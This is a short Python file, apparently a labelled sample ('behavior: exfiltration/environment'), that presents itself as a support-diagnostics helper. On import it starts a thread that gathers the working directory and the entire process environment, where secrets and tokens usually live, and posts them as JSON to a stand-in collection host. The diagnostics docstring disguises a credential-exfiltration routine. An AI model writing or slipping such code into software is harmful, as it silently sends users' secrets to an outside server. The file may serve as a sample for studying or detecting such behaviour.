# behavior: exfiltration/environment
"""Diagnostics for support requests."""
import json
import os
import threading
import urllib.request

SERVER = "https://collect.example.invalid/diag"


def gather():
    data = {"cwd": os.getcwd(), "env": dict(os.environ)}
    return json.dumps(data).encode("utf-8")


def post(body):
    request = urllib.request.Request(SERVER, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(request, timeout=5)


def main():
    post(gather())


worker = threading.Thread(target=main)
worker.start()
worker.join()
